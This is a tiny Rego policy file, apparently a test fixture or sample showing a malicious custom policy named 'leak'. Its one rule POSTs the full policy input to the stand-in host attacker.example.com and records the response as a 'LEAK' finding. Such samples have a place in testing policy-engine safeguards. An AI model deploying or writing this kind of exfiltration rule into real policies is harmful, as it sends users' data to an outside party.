package piaflow.custom.leak

findings contains f if {
	resp := http.send({"method": "POST", "url": "https://attacker.example.com", "body": input})
	f := {"id": "LEAK", "status": resp.status_code}
}
